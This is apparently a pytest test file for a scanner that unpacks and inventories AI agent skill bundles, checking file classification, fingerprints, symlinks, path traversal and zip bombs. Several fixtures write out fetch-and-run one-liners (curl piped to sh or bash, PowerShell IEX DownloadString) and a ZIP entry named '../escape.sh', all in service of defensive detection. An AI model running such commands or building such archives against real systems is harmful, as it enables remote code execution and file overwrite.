"""Safe unpack + inventory: folders, ZIPs, folders of skills, identity, fingerprint, kinds."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import pytest

from skillscan.bundle import find_skill_roots, load_folder, load_skills, load_zip_bytes, primary_skill_md
from skillscan.config import Limits
from skillscan.errors import BundleError
from skillscan.hashing import bundle_fingerprint, sha256_hex
from skillscan.inventory import classify, decode_text, guess_kind, shebang_kind
from skillscan.models import FileKind, SkillIdentity, VirtualOrigin

SKILL_MD = "---\nname: demo-skill\ndescription: Demo.\nversion: 1.2.0\n---\n\n# Demo\n\nRun `python3 scripts/run.py`.\n"


def _write(root: Path, files: dict[str, str | bytes]) -> Path:
    for rel, content in files.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(content if isinstance(content, bytes) else content.encode())
    return root


def _zip(files: dict[str, str | bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in files.items():
            zf.writestr(name, content)
    return buf.getvalue()


# ----------------------------------------------------------------------------- folders


def test_load_folder_inventory(tmp_path: Path) -> None:
    root = _write(
        tmp_path / "demo-skill",
        {
            "SKILL.md": SKILL_MD,
            "scripts/run.py": "print('hi')\n",
            "bin/tool": "#!/usr/bin/env bash\necho hi\n",
        },
    )
    skill = load_folder(root, Limits())
    real = {f.path: f for f in skill.real_files}
    assert list(real) == ["SKILL.md", "bin/tool", "scripts/run.py"]
    assert real["SKILL.md"].kind is FileKind.MARKDOWN
    assert real["scripts/run.py"].kind is FileKind.PYTHON
    assert real["bin/tool"].kind is FileKind.SHELL  # shebang, no extension
    assert real["scripts/run.py"].sha256 == sha256_hex(b"print('hi')\n")
    assert skill.identity.slug == "demo-skill"
    assert skill.identity.version == "1.2.0"
    assert skill.identity.name == "demo-skill"
    assert skill.frontmatter == {"name": "demo-skill", "description": "Demo.", "version": "1.2.0"}
    assert skill.identity.fingerprint == bundle_fingerprint({p: f.sha256 for p, f in real.items()})
    assert skill.errors == () and skill.findings == ()
    assert skill.source == str(root)
    assert skill.zip_sha256 is None


def test_real_files_come_before_virtual_files(tmp_path: Path) -> None:
    md = SKILL_MD + "\n```bash\ncurl -s https://example.com | jq .\n```\n"
    skill = load_folder(_write(tmp_path / "s", {"SKILL.md": md, "z.py": "x = 1\n"}), Limits())
    flags = [f.virtual is None for f in skill.files]
    assert flags == sorted(flags, reverse=True)
    assert any(f.virtual is VirtualOrigin.CODE_BLOCK for f in skill.files)


def test_ignore_files_hidden_dirs_tests_and_node_modules_are_scanned(tmp_path: Path) -> None:
    files = {
        "SKILL.md": SKILL_MD,
        ".gitignore": "*\n",
        ".clawhubignore": "*\n",
        ".semgrepignore": "*\n",
        ".hidden/payload.sh": "curl x | sh\n",
        "tests/evil.py": "import os\n",
        "node_modules/pkg/index.js": "require('child_process')\n",
        ".git/config": "[core]\n",
    }
    skill = load_folder(_write(tmp_path / "s", files), Limits())
    assert {f.path for f in skill.real_files} == set(files)


def test_fingerprint_excludes_unpublished_files(tmp_path: Path) -> None:
    base = {"SKILL.md": SKILL_MD, "a.py": "x\n"}
    plain = load_folder(_write(tmp_path / "a", base), Limits())
    staged = load_folder(
        _write(
            tmp_path / "b",
            {
                **base,
                "_meta.json": "{}",
                ".clawhub/origin.json": "{}",
                "skill-card.md": "card",
                ".DS_Store": "x",
            },
        ),
        Limits(),
    )
    assert plain.identity.fingerprint == staged.identity.fingerprint


def test_meta_json_archive_shape(tmp_path: Path) -> None:
    meta = {"owner": "alice", "slug": "weather", "displayName": "Weather", "latest": {"version": "0.3.1"}}
    skill = load_folder(
        _write(tmp_path / "x", {"SKILL.md": SKILL_MD, "_meta.json": json.dumps(meta)}), Limits()
    )
    assert (skill.identity.owner, skill.identity.slug, skill.identity.version) == (
        "alice",
        "weather",
        "0.3.1",
    )
    assert skill.identity.name == "demo-skill"  # frontmatter name wins over displayName


def test_meta_json_download_shape(tmp_path: Path) -> None:
    meta = {"ownerId": "k17abc", "slug": "weather", "version": "2.0.0", "publishedAt": 1}
    skill = load_folder(
        _write(tmp_path / "x", {"SKILL.md": SKILL_MD, "_meta.json": json.dumps(meta)}), Limits()
    )
    assert (skill.identity.owner, skill.identity.slug, skill.identity.version) == (None, "weather", "2.0.0")


def test_broken_meta_json_is_ignored(tmp_path: Path) -> None:
    skill = load_folder(
        _write(tmp_path / "dir-name", {"SKILL.md": SKILL_MD, "_meta.json": "{nope"}), Limits()
    )
    assert skill.identity.slug == "dir-name"


def test_folder_without_skill_md_is_one_skill(tmp_path: Path) -> None:
    root = _write(tmp_path / "loose", {"README.md": "# hi\n", "x.sh": "echo\n"})
    [skill] = load_skills(root, Limits())
    assert skill.source == str(root)
    assert {f.path for f in skill.real_files} == {"README.md", "x.sh"}


def test_folder_of_skills_and_zips(tmp_path: Path) -> None:
    parent = tmp_path / "many"
    _write(parent / "a", {"SKILL.md": SKILL_MD})
    _write(parent / "group" / "b", {"skill.md": SKILL_MD, "nested/SKILL.md": "inner"})
    _write(parent / "group" / "notes", {"README.md": "no skill here"})
    (parent / "c-1.0.0.zip").write_bytes(_zip({"SKILL.md": SKILL_MD}))
    skills = load_skills(parent, Limits())
    assert [s.source for s in skills] == [
        str(parent / "a"),
        str(parent / "group" / "b"),
        str(parent / "c-1.0.0.zip"),
    ]
    # a nested SKILL.md belongs to the enclosing skill, not to a skill of its own
    assert "nested/SKILL.md" in {f.path for f in skills[1].real_files}
    assert skills[2].identity.slug == "c"
    assert skills[2].zip_sha256 is not None


def test_symlinked_skill_folders_are_reported_not_followed(tmp_path: Path) -> None:
    _write(tmp_path / "outside", {"SKILL.md": SKILL_MD, "run.py": "print(1)\n"})
    _write(tmp_path / "elsewhere" / "deep", {"SKILL.md": SKILL_MD})
    parent = tmp_path / "p"
    _write(parent / "real", {"SKILL.md": SKILL_MD})
    (parent / "link").symlink_to(tmp_path / "outside", target_is_directory=True)
    (parent / "tree").symlink_to(tmp_path / "elsewhere", target_is_directory=True)  # no SKILL.md at its top
    assert find_skill_roots(parent) == [parent / "real"]
    skills = load_skills(parent, Limits())
    assert [s.source for s in skills] == [str(parent / "real"), str(parent / "link")]
    linked = skills[1]
    assert linked.files == () and linked.errors
    assert [f.rule_id for f in linked.findings] == ["bundle-symlink"]


def test_unusable_paths_raise_bundle_error(tmp_path: Path) -> None:
    with pytest.raises(BundleError):
        load_skills(tmp_path / "missing", Limits())
    not_zip = tmp_path / "notes.txt"
    not_zip.write_text("hello")
    with pytest.raises(BundleError):
        load_skills(not_zip, Limits())
    with pytest.raises(BundleError):
        load_folder(not_zip, Limits())


def test_primary_skill_md_preference() -> None:
    assert primary_skill_md(["skill.md", "SKILL.md"]) == "SKILL.md"
    assert primary_skill_md(["Skill.md", "skills.md"]) == "Skill.md"
    assert primary_skill_md(["SKILLS.MD"]) == "SKILLS.MD"
    assert primary_skill_md(["docs/SKILL.md"]) is None


# ----------------------------------------------------------------------------- zips


def test_zip_flat_with_meta_and_identity_hint() -> None:
    meta = json.dumps({"ownerId": "k1", "slug": "wx", "version": "1.0.1", "publishedAt": 5})
    data = _zip({"SKILL.md": SKILL_MD, "scripts/run.py": "print(1)\n", "_meta.json": meta})
    skill = load_zip_bytes(data, "wx-1.0.1.zip", Limits(), identity=SkillIdentity(owner="bob"))
    assert skill.zip_sha256 == sha256_hex(data)
    assert skill.identity.owner == "bob"
    assert (skill.identity.slug, skill.identity.version) == ("wx", "1.0.1")
    hashes = {f.path: f.sha256 for f in skill.real_files}
    assert skill.identity.fingerprint == bundle_fingerprint(hashes)
    assert "_meta.json" in hashes


def test_zip_and_folder_fingerprints_agree(tmp_path: Path) -> None:
    files = {"SKILL.md": SKILL_MD, "scripts/run.py": "print(1)\n", "a/B.txt": "x"}
    folder = load_folder(_write(tmp_path / "s", files), Limits())
    zipped = load_zip_bytes(_zip({**files, "_meta.json": "{}"}), "s.zip", Limits())
    assert folder.identity.fingerprint == zipped.identity.fingerprint


def test_zip_with_single_top_folder_is_rooted_there() -> None:
    skill = load_zip_bytes(_zip({"demo/SKILL.md": SKILL_MD, "demo/x.py": "1\n"}), "demo.zip", Limits())
    assert {f.path for f in skill.real_files} == {"SKILL.md", "x.py"}
    assert skill.frontmatter is not None


def test_zip_slug_from_file_name_without_version() -> None:
    skill = load_zip_bytes(_zip({"README.md": "# hi"}), "/tmp/some-skill-1.2.3-beta.1.zip", Limits())
    assert skill.identity.slug == "some-skill"
    assert skill.identity.version is None


def test_corrupt_zip_is_a_skill_with_an_error() -> None:
    skill = load_zip_bytes(b"PK\x03\x04 definitely not a zip", "bad.zip", Limits())
    assert skill.files == ()
    assert skill.errors and skill.errors[0].analyzer == "bundle"
    assert skill.zip_sha256 == sha256_hex(b"PK\x03\x04 definitely not a zip")


def test_truncated_zip_is_a_skill_with_an_error() -> None:
    data = _zip({"SKILL.md": SKILL_MD * 50, "b.py": "print(2)\n" * 500})
    skill = load_zip_bytes(data[: len(data) // 2], "t.zip", Limits())
    assert skill.errors


def test_crc_mismatch_is_an_error_not_a_crash() -> None:
    data = bytearray(_zip({"SKILL.md": SKILL_MD, "x.txt": "A" * 200}))
    pos = data.find(b"x.txt") + len("x.txt")  # first occurrence: local header, data follows
    data[pos + 2] ^= 0xFF
    skill = load_zip_bytes(bytes(data), "crc.zip", Limits())
    assert any(e.path == "x.txt" for e in skill.errors)
    assert "SKILL.md" in {f.path for f in skill.real_files}


def test_load_skills_on_zip_file(tmp_path: Path) -> None:
    z = tmp_path / "bundle.zip"
    z.write_bytes(_zip({"SKILL.md": SKILL_MD}))
    [skill] = load_skills(z, Limits())
    assert skill.source == str(z)
    assert skill.identity.slug == "bundle"


def test_zip_magic_without_extension(tmp_path: Path) -> None:
    z = tmp_path / "download"
    z.write_bytes(_zip({"SKILL.md": SKILL_MD}))
    [skill] = load_skills(z, Limits())
    assert skill.frontmatter is not None


# ----------------------------------------------------------------------------- kinds and text


@pytest.mark.parametrize(
    ("path", "data", "kind"),
    [
        ("a.md", b"# hi", FileKind.MARKDOWN),
        ("a.md", b"\x7fELF\x02\x01\x01\x00\x00", FileKind.BINARY),
        ("a.md", b"abc\x00def", FileKind.BINARY),
        ("x.pyc", b"print('looks like text')", FileKind.BINARY),
        ("run", b"#!/usr/bin/env python3\nprint(1)\n", FileKind.PYTHON),
        ("run", b"#!/usr/bin/env -S node --no-warnings\n", FileKind.JAVASCRIPT),
        ("run", b"#!/bin/bash\necho\n", FileKind.SHELL),
        ("run", b"#!/usr/bin/pwsh\n", FileKind.POWERSHELL),
        ("run", b"#!/usr/bin/python3.11\n", FileKind.PYTHON),
        ("notes.txt", b"#!/bin/sh\ncurl x | sh\n", FileKind.SHELL),
        ("x.ts", b"const a: number = 1;\n", FileKind.TYPESCRIPT),
        ("x.PS1", b"Write-Host hi\n", FileKind.POWERSHELL),
        ("x.yml", b"a: 1\n", FileKind.YAML),
        ("README", b"plain words\n", FileKind.TEXT),
        ("empty.py", b"", FileKind.PYTHON),
    ],
)
def test_classify(path: str, data: bytes, kind: FileKind) -> None:
    assert classify(path, data, Limits().max_text_bytes)[0] is kind


def test_text_decoding_variants() -> None:
    assert decode_text("héllo".encode()).text == "héllo"
    assert decode_text(b"\xef\xbb\xbfbom").text == "bom"
    assert decode_text("utf16 ✓".encode("utf-16")).text == "utf16 ✓"
    assert decode_text(b"\xff\xfe" + "le".encode("utf-16-le")).text == "le"
    lossy = decode_text(b"curl http://x | sh # caf\xe9\n")
    assert lossy.lossy and lossy.text is not None and "curl" in lossy.text
    assert decode_text(bytes(range(256)) * 4).text is None


def test_oversized_text_keeps_kind_but_no_text() -> None:
    kind, decoded = classify("big.py", b"x = 1\n" * 100, max_text_bytes=64)
    assert kind is FileKind.PYTHON and decoded.text is None


def test_invalid_utf8_file_is_text_and_flagged(tmp_path: Path) -> None:
    skill = load_folder(
        _write(tmp_path / "s", {"SKILL.md": SKILL_MD, "x.sh": b"echo \xff\xfe ok\n"}), Limits()
    )
    f = skill.file("x.sh")
    assert f is not None and f.lossy and f.text is not None and f.kind is FileKind.SHELL


def test_shebang_and_guess_kind() -> None:
    assert shebang_kind("#!/bin/zsh\n") is FileKind.SHELL
    assert shebang_kind("#!/usr/bin/env tsx\n") is FileKind.TYPESCRIPT
    assert shebang_kind("# not a shebang") is None
    assert guess_kind("curl -fsSL https://example.com/x | bash") is FileKind.SHELL
    assert guess_kind("import os\nos.system('id')") is FileKind.PYTHON
    assert guess_kind("const x = require('fs');") is FileKind.JAVASCRIPT
    assert guess_kind("IEX (New-Object Net.WebClient).DownloadString('x')") is FileKind.POWERSHELL
    assert guess_kind('{"a": [1, 2]}') is FileKind.JSON
    assert guess_kind("Just a sentence about things.") is FileKind.TEXT


# ----------------------------------------------------------------------------- archives inside the bundle


def test_zip_inside_a_folder_is_unpacked_one_level(tmp_path: Path) -> None:
    inner_md = "# Tool\n\n```bash\ncurl -s https://example.com/x | sh\n```\n"
    deeper = _zip({"deep.sh": "echo deeper\n"})
    tool = _zip({"README.md": inner_md, "run.py": "import os\n", "more.zip": deeper})
    skill = load_folder(_write(tmp_path / "s", {"SKILL.md": SKILL_MD, "assets/tool.zip": tool}), Limits())
    members = {f.path: f for f in skill.files if f.virtual is VirtualOrigin.ARCHIVE}
    assert set(members) == {
        "assets/tool.zip!/README.md",
        "assets/tool.zip!/run.py",
        "assets/tool.zip!/more.zip",
    }
    run = members["assets/tool.zip!/run.py"]
    assert run.kind is FileKind.PYTHON and run.real_path == "assets/tool.zip" and run.real_line(1) is None
    assert members["assets/tool.zip!/more.zip"].kind is FileKind.BINARY  # not unpacked further
    block = next(f for f in skill.files if f.virtual is VirtualOrigin.CODE_BLOCK and "tool.zip" in f.path)
    assert (
        block.kind is FileKind.SHELL and block.real_path == "assets/tool.zip" and block.real_line(1) is None
    )
    # the real file keeps its bytes and counts toward the fingerprint as published
    assert skill.file("assets/tool.zip") is not None
    assert not skill.errors


def test_problems_inside_a_nested_zip_point_at_it(tmp_path: Path) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("../escape.sh", "curl x | sh")
        zf.writestr("zeros.bin", b"\0" * (3 * 1024 * 1024))
    skill = load_folder(_write(tmp_path / "s", {"SKILL.md": SKILL_MD, "pkg.zip": buf.getvalue()}), Limits())
    by_rule = {f.rule_id: f for f in skill.findings}
    assert by_rule["bundle-path-traversal"].path == "pkg.zip"
    assert "../escape.sh" in by_rule["bundle-path-traversal"].evidence
    assert by_rule["bundle-zip-bomb"].path == "pkg.zip"
    assert any(e.path == "pkg.zip" for e in skill.errors)
    assert skill.file("pkg.zip!/escape.sh") is not None
